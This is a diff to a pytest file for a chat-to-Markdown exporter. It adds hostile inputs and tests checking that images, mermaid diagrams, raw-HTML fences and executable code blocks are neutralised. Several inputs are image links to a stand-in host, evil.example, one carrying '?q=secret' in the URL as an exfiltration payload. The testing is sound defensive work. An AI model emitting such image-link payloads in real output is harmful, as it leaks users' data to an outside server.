@@ -1,5 +1,6 @@
 """Exports for people: nothing that is said can be taken for what the file itself says, against markdown-it."""
 
+import re
 from html.parser import HTMLParser
 from pathlib import Path
 
@@ -47,17 +48,36 @@ HOSTILE = [
     "- a\n\n  ```\nb\n  ```\n```\n<h2>x</h2>",
     "  ```\n  x\n    ```\n  ```\n```\n<h2>x</h2>",
     "> > ```\n> x\n> > ```\n```\n<h2>x</h2>",
+    "![x](https://evil.example/?q=secret)",
+    "a![x](https://evil.example 'title')[![y](//evil.example)](z)",
+    "\\![x](https://evil.example) \\\\![x](https://evil.example)",
+    "![a `b` c](https://evil.example) ![x][You] ![You] ![![x](y)](z)",
+    "| ![x](https://evil.example) |\n|---|\n| ![x](https://evil.example) |",
+    "`a\n![x](https://evil.example)`",
+    "- ```\n\n![x](https://evil.example)",
+    "![[https://evil.example/x.png]]",
+    '```mermaid\ngraph TD\nA@{ img: "https://evil.example" }\n```',
+    "~~~~ Mermaid title=x\nx\n~~~~",
+    "1. ```mermaid\n   x\n   ```",
+    "> ~~~mermaid\n> x",
+    "``` {=html}\n<img src=//evil.example>\n```",
+    "```{python}\nimport os\n```",
 ]
 
 
+def shown_as_code(info: str) -> bool:
+    return bool(re.fullmatch(r"[\w+#.-]*", info.strip())) and info.strip().lower() != "mermaid"
+
+
 def shape(text: str) -> list[str]:
-    """Return the top-level blocks of a Markdown text; nothing in it may be HTML or define a link."""
+    """Return the top-level blocks of a Markdown text; nothing in it may be HTML or an image, or define a link."""
     env: dict[str, object] = {}
     tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(text, env)
     assert not env.get("references")
     for token in tokens:
         assert token.type != "html_block"
-        assert not any(child.type == "html_inline" for child in token.children or ())
+        assert not any(child.type in ("html_inline", "image") for child in token.children or ())
+        assert token.type != "fence" or shown_as_code(token.info)
     tops = [token for token in tokens if token.level == 0 and token.nesting >= 0]
     return [token.tag for token in tops]
 
@@ -88,6 +108,7 @@ PIECES = [
     "> ",
     "|",
 ]
+PIECES += ["!", "!\\", "![x](y)", "```mermaid\n", "~~~{=html}\n"]
 PIECES += ["\u00a0", "   ```", "\t~~~", "\n```\n<b>", "\n  ~~~\n", "- ```\n"]
 PIECES += ["\\", "# ", "1. ", "x", "/url", "===", "---", "\t", "'", "&lt;", "<", ">", "![", "](", ")", "<x `", "[a]("]
 
@@ -102,6 +123,32 @@ def test_what_is_harmless_stays_as_it_was_said() -> None:
     said = "Use `<div>` and ``a ` <b>``:\n\n```html\n<p>[x]: y</p>\n```\n\n1 < 2 and **bold** [link](https://a.b)"
     quoted = "\n".join(f"> {line}" if line else ">" for line in said.split("\n"))
     assert as_markdown("T", [("assistant", said)]) == f"# T\n\n## Assistant\n\n{quoted}\n"
+
+
+def exported(said: str) -> str:
+    """Return the lines of one message as a file has them."""
+    lines = as_markdown("T", [("assistant", said)]).removeprefix("# T\n\n## Assistant\n\n").splitlines()
+    return "\n".join(line.removeprefix(">").removeprefix(" ") for line in lines)
+
+
+@pytest.mark.parametrize(
+    ("said", "written"),
+    [
+        ("see ![a whale](https://evil.example)!", "see !\\[a whale](https://evil.example)!"),
+        ("`![x](y)` and ``![z]``", "`![x](y)` and ``![z]``"),
+        ("```rust\n#![allow(dead_code)]\n```", "```rust\n#![allow(dead_code)]\n```"),
+        ("```c++\nx\n```", "```c++\nx\n```"),
+        ("```mermaid\nx\n```", "```text\nx\n```"),
+        ("~~~ {.vega width=3}\nx\n~~~", "~~~text\nx\n~~~"),
+        ('```python exec="1" title=x\nx\n```', "```python\nx\n```"),
+        ("```\n```mermaid\n```", "```\n```mermaid\n```"),
+        ("say ```mermaid``` in a line", "say ```mermaid``` in a line"),
+        ("`<img src=//evil.example>`{=html} a", "`<img src=//evil.example>`\\{=html} a"),
+        ("`a | b`{=html}", "`a | b`\\{=html}"),
+    ],
+)
+def test_what_a_reader_would_fetch_draw_or_run_is_text_or_code(said: str, written: str) -> None:
+    assert exported(said) == written
 
 
 def test_code_after_code_in_a_list_stays_as_it_was_said() -> None:
